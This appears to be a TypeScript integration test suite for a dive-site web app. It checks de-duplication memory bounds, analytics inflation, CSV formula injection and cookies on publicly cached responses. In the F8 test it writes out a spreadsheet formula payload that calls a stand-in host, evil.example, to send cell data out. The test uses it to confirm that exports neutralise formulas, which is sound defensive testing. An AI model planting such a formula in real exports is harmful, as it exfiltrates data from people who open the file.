import type { IncomingMessage } from 'node:http';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import request from 'supertest';
import { Clock } from 'src/common/clock';
import { GUIDE_PATH } from 'src/guide/guide-content';
import { pageViewCounter } from 'src/insights/page-view-counting';
import { PageViewsService } from 'src/insights/page-views.service';
import { signInAsAdmin, type Agent } from '../support/admin';
import { startTestApp, type TestApp } from '../support/test-app';

/**
 * Issue 42 (hostile input, round four), the counting findings: F6 (the page-view de-duplication's memory),
 * F7 (inflated Insights), F8 (formulas in the Insights CSV) and F9 (the admin's cookie on public answers).
 * TRUST_PROXY=1, so X-Forwarded-For names the visitor; the page cache is on, so cache hits are counted too.
 */
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const MB = 1024 * 1024;

let t: TestApp;
let views: PageViewsService;
let admin: Agent;
let review: { slug: string };
let siteId: number;
let ip = 0;
/** A made-up IPv4 client per call, so no two tests share a visitor. */
const nextIp = () => `10.42.${(++ip >> 8) & 255}.${ip & 255}`;

beforeAll(async () => {
  t = await startTestApp({ TRUST_PROXY: '1', PAGE_CACHE: 'true' });
  views = t.app.get(PageViewsService);
  admin = await signInAsAdmin(t);
  [review] = await t.dataSource.query(`SELECT slug FROM reviews WHERE published = true AND "purchaseLink" <> '' ORDER BY id LIMIT 1`);
  [{ id: siteId }] = await t.dataSource.query(`SELECT id FROM dive_sites ORDER BY id LIMIT 1`);
});

afterEach(() => t.app.get(Clock).reset());

afterAll(() => t.close());

const visit = (path: string, address: string) => request(t.baseUrl).get(path).set('X-Forwarded-For', address).set('User-Agent', BROWSER).redirects(0);

async function pageViews(path: string): Promise<number> {
  await views.flush();
  const [row] = await t.dataSource.query(`SELECT COALESCE(SUM(views), 0)::int AS n FROM page_views WHERE path = $1`, [path]);
  return row.n;
}

async function clicks(kind: string, slug: string): Promise<number> {
  const [row] = await t.dataSource.query(`SELECT COALESCE(SUM(clicks), 0)::int AS n FROM link_clicks WHERE kind = $1 AND slug = $2`, [kind, slug]);
  return row.n;
}

/** The heap in use once the garbage is collected (the collector exposed for this file). */
function heapAfterGc(): number {
  setFlagsFromString('--expose-gc');
  const gc = runInNewContext('gc') as () => void;
  gc();
  gc();
  return process.memoryUsage().heapUsed;
}

describe('F6: the page-view de-duplication is bounded', () => {
  it('F6 keeps its memory bounded through 100,000 distinct addresses, and counts one IPv6 /64 as one visitor', async () => {
    // Each page rendered once (its canonical path learnt, then kept by the page cache) and then hit.
    const pages = ['/blog', '/about'];
    for (const page of pages) {
      await visit(page, nextIp()).expect(200);
      expect((await visit(page, nextIp()).expect(200)).headers['x-page-cache']).toBe('hit');
    }
    // What the page cache calls for each hit, with the request as Node hands it over (a bare IncomingMessage).
    const hit = pageViewCounter(views, t.config);
    const reader = (address: string, url: string) =>
      ({
        method: 'GET',
        url,
        headers: { 'user-agent': BROWSER, 'x-forwarded-for': address },
        socket: { remoteAddress: '127.0.0.1' },
      }) as unknown as IncomingMessage;

    const before = { blog: await pageViews('/blog'), about: await pageViews('/about') };
    const heapBefore = heapAfterGc();
    for (let i = 0; i < 100_000; i++) {
      const address = `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;
      for (const page of pages) hit(reader(address, page), page);
    }
    const heapAfter = heapAfterGc();
    const remembered = views.remembered;
    // Figures for the closing note.
    console.log(
      `F6: 100,000 addresses x ${pages.length} pages: heap ${(heapBefore / MB).toFixed(1)} MB -> ${(heapAfter / MB).toFixed(1)} MB; ` +
        `${remembered?.visits} visits remembered in ${(remembered?.bytes / MB).toFixed(2)} MB (bounds ${remembered?.maxVisits}, ${(remembered?.maxBytes / MB).toFixed(1)} MB)`,
    );
    // The bound is a few megabytes (4 MB of remembered visits); 200,000 remembered visits took about 38.
    expect(heapAfter - heapBefore).toBeLessThan(8 * MB);
    expect(remembered.visits).toBeLessThanOrEqual(remembered.maxVisits);
    expect(remembered.bytes).toBeLessThanOrEqual(remembered.maxBytes);
    expect(remembered.maxBytes).toBeLessThanOrEqual(4 * MB);
    // Every distinct visitor still counted once.
    expect(await pageViews('/blog')).toBe(before.blog + 100_000);
    expect(await pageViews('/about')).toBe(before.about + 100_000);

    // 300 addresses of one /64, over HTTP: one visitor, one view, one remembered visit.
    const visits = views.remembered.visits;
    for (let i = 1; i <= 300; i++) await visit('/blog', `2001:db8:42:6::${i.toString(16)}`).expect(200);
    expect(await pageViews('/blog')).toBe(before.blog + 100_001);
    expect(views.remembered.visits).toBeLessThanOrEqual(Math.min(visits + 1, remembered.maxVisits));
  }, 120_000);
});

describe('F7: Insights count each page once per visitor, by its canonical path', () => {
  it('F7 counts no other spelling of a page, and adds no row for one', async () => {
    const spellings = [`/dive-sites/${siteId}abc`, `/dive-sites/00${siteId}`, `/dive-sites/${siteId}/`, '/ABOUT/', '/About', '/about/', '/BLOG', '/blog/'];
    const before = { site: await pageViews(`/dive-sites/${siteId}`), about: await pageViews('/about'), blog: await pageViews('/blog') };
    for (const spelling of spellings) {
      // Twice each from new addresses: the render, then (where the page cache keeps it) a cache hit.
      for (let i = 0; i < 2; i++) {
        const answer = await visit(spelling, nextIp());
        expect([spelling, answer.status === 200 || answer.status >= 300]).toEqual([spelling, true]);
      }
    }
    expect(await pageViews(`/dive-sites/${siteId}`)).toBe(before.site);
    expect(await pageViews('/about')).toBe(before.about);
    expect(await pageViews('/blog')).toBe(before.blog);
    const rows: { path: string }[] = await t.dataSource.query(`SELECT DISTINCT path FROM page_views WHERE path = ANY($1)`, [spellings]);
    expect(rows).toEqual([]);
    // The canonical path still counts, rendered and from the cache.
    await visit(`/dive-sites/${siteId}`, nextIp()).expect(200);
    await visit(`/dive-sites/${siteId}`, nextIp()).expect(200);
    await visit('/about', nextIp()).expect(200);
    expect(await pageViews(`/dive-sites/${siteId}`)).toBe(before.site + 2);
    expect(await pageViews('/about')).toBe(before.about + 1);
  });

  it('F7 counts nothing for an answer that is not a 200', async () => {
    const first = await visit('/about', nextIp()).expect(200);
    const etag = String(first.headers.etag);
    const cached = await visit('/about', nextIp()).expect(200);
    expect(cached.headers['x-page-cache']).toBe('hit');
    const before = await pageViews('/about');
    // A revalidation answered 304 from the cache and by Express (a query the cache has not kept yet).
    const fromCache = await visit('/about', nextIp()).set('If-None-Match', etag);
    expect(fromCache.status).toBe(304);
    const rendered = await visit('/about?utm_source=x', nextIp());
    const fromExpress = await visit('/about?utm_source=x', nextIp()).set('If-None-Match', String(rendered.headers.etag));
    expect(fromExpress.status).toBe(304);
    expect(await pageViews('/about')).toBe(before + 1);
    // A first render answered 304 is kept by the page cache: its later 200 hits count.
    const revalidated = await visit('/about?ref=f7', nextIp()).set('If-None-Match', etag);
    expect(revalidated.status).toBe(304);
    expect(await pageViews('/about')).toBe(before + 1);
    expect((await visit('/about?ref=f7', nextIp()).expect(200)).headers['x-page-cache']).toBe('hit');
    expect(await pageViews('/about')).toBe(before + 2);
    await visit('/no-such-page-f7', nextIp()).expect(404);
    await visit('/dive-sites/999999999', nextIp()).expect(404);
    expect(await pageViews('/no-such-page-f7')).toBe(0);
    expect(await pageViews('/dive-sites/999999999')).toBe(0);
  });

  it('F7 counts the addresses of one IPv6 /64 as one visitor, for page views and clicks', async () => {
    const path = `/gear-reviews/${review.slug}`;
    const views0 = await pageViews(path);
    const clicks0 = await clicks('review', review.slug);
    for (let i = 1; i <= 20; i++) {
      await visit(path, `2001:db8:7:7::${i.toString(16)}`).expect(200);
      await visit(`/go/review/${review.slug}`, `2001:db8:7:7:${i.toString(16)}::1`).expect(302);
    }
    expect(await pageViews(path)).toBe(views0 + 1);
    expect(await clicks('review', review.slug)).toBe(clicks0 + 1);
    // Another /64 is another visitor.
    await visit(path, '2001:db8:7:8::1').expect(200);
    await visit(`/go/review/${review.slug}`, '2001:db8:7:8::1').expect(302);
    expect(await pageViews(path)).toBe(views0 + 2);
    expect(await clicks('review', review.slug)).toBe(clicks0 + 2);
  });

  it("F7 does not count the signed-in administrator's own purchase-link clicks", async () => {
    const before = await clicks('review', review.slug);
    const answer = await admin.get(`/go/review/${review.slug}`).set('X-Forwarded-For', nextIp()).set('User-Agent', BROWSER).redirects(0).expect(302);
    expect(answer.headers.location).toMatch(/^https?:\/\//);
    expect(await clicks('review', review.slug)).toBe(before);
    // A reader's click still counts.
    await visit(`/go/review/${review.slug}`, nextIp()).expect(302);
    expect(await clicks('review', review.slug)).toBe(before + 1);
  });
});

describe('F8: every CSV export neutralises formulas', () => {
  it('F8 writes a product named as a formula into the Insights CSV as text', async () => {
    const name = '=HYPERLINK("https://evil.example/steal?d="&A1,"Cheap fins")';
    const product = await admin
      .post('/api/products')
      .send({ name, category: 'Fins', description: 'Fins.', affiliateLink: 'https://shop.example/fins', imageUrl: '/media/gear-fins.svg', published: true });
    expect(product.status).toBe(201);
    await visit(`/go/product/${product.body.id}`, nextIp()).expect(302);
    const csv = await admin.get('/api/admin/insights/csv?days=7').expect(200);
    const rows: string[][] = parse(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: false });
    const row = rows.find((cells) => cells[2] === `/go/product/${product.body.id}`);
    expect(row?.[1]).toBe(`'${name}`);
    for (const cells of rows) for (const cell of cells) expect([cell, /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell)]).toEqual([cell, false]);
  });
});

describe('F9: no Set-Cookie on an answer a shared cache may keep', () => {
  /** The signed-in administrator's requests carry the session cookie, which rolls (is set again) on each answer. */
  const publicAnswers = ['/img?src=/media/stock/hero-reef.jpg&w=400', GUIDE_PATH, '/manifest.webmanifest'];

  it.each(publicAnswers)('F9 sends the signed-in administrator %s without Set-Cookie when it is public', async (path) => {
    const answer = await admin.get(path).set('X-Forwarded-For', nextIp());
    expect(answer.status).toBe(200);
    expect(answer.headers['cache-control']).toMatch(/\bpublic\b/);
    expect(answer.headers['set-cookie']).toBeUndefined();
  });

  it("F9 sends the signed-in administrator an uploaded image, and /img's variants of it, without Set-Cookie", async () => {
    const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#2080a0' } })
      .png()
      .toBuffer();
    const upload = await admin.post('/api/admin/media').attach('file', png, { filename: 'f9.png', contentType: 'image/png' });
    expect(upload.status).toBe(201);
    for (const path of [
      upload.body.url,
      `/img?src=${encodeURIComponent(upload.body.url)}&w=400`,
      `/img?src=${encodeURIComponent(upload.body.url)}&w=800&q=80`,
    ]) {
      const answer = await admin.get(path).set('X-Forwarded-For', nextIp());
      expect([path, answer.status]).toEqual([path, 200]);
      expect(answer.headers['cache-control']).toMatch(/\bpublic\b/);
      expect([path, answer.headers['set-cookie']]).toEqual([path, undefined]);
    }
  });

  it('F9 sets no cookie on any public answer of any parameterless GET route, and keeps the session rolling elsewhere', async () => {
    const router = (t.app.getHttpAdapter().getInstance() as { router: { stack: { route?: { path: unknown; methods: Record<string, boolean> } }[] } }).router;
    const paths = router.stack
      .map((layer) => layer.route)
      .filter((route) => route && route.methods.get && typeof route.path === 'string' && !/[:*]/.test(route.path))
      .map((route) => String(route!.path))
      .filter((path) => !/logout|sign-?out/i.test(path));
    expect(paths.length).toBeGreaterThan(20);
    let publicOnes = 0;
    for (const path of paths) {
      const answer = await admin.get(path).set('X-Forwarded-For', nextIp()).redirects(0);
      if (!/\bpublic\b/.test(String(answer.headers['cache-control'] ?? ''))) continue;
      publicOnes++;
      expect([path, answer.headers['set-cookie']]).toEqual([path, undefined]);
    }
    console.log(`F9: ${paths.length} parameterless GET routes asked with the admin's cookie, ${publicOnes} of them public`);
    expect(publicOnes).toBeGreaterThan(0);
    // A private answer still renews the session's cookie, and the session still works.
    const dashboard = await admin.get('/api/admin/insights?days=7').expect(200);
    expect(String(dashboard.headers['set-cookie'] ?? '')).toMatch(/=/);
  });
});
